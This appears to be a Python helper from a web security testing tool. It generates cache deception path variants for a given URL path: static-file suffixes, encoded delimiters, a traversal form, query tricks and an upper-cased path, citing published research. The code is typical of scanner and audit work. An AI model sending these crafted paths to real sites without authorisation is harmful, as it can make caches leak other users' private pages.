"""Odd addresses that a cache may take for a file, or for another page, while the application answers with a private one.

Web cache deception: Omer Gil 2017; Mirheidari and others 2020, Cached and Confused.
"""

from __future__ import annotations

__all__ = ["variants"]


def variants(path: str, salt: str) -> list[str]:
    """Odd forms of a path; ``salt`` is new each time, so that none of them is anybody's address.

    >>> variants("/me", "7f")[:3]
    ['/me/7f.css', '/me/7f.js', '/me;7f.css']
    """
    plain, _, query = path.partition("?")
    more = f"&{query}" if query else ""
    suffixes = (
        f"/{salt}.css", f"/{salt}.js", f";{salt}.css", f"%2F{salt}.css", f"%3B{salt}.css", f"%0A{salt}.css",
        f"%23{salt}.css", f"%3F{salt}.css", f"/..%2F{salt}.css",
    )  # fmt: skip
    forms = [f"{plain}{suffix}{'?' + query if query else ''}" for suffix in suffixes]
    forms += [f"{plain}?{salt}.css{more}", f"{plain}.css?{salt}{more}", f"{plain}.json?{salt}{more}"]
    forms += [f"/{plain}?{salt}{more}", f"{plain}/?{salt}{more}"]
    if plain.upper() != plain:
        forms.append(f"{plain.upper()}?{salt}{more}")
    return forms
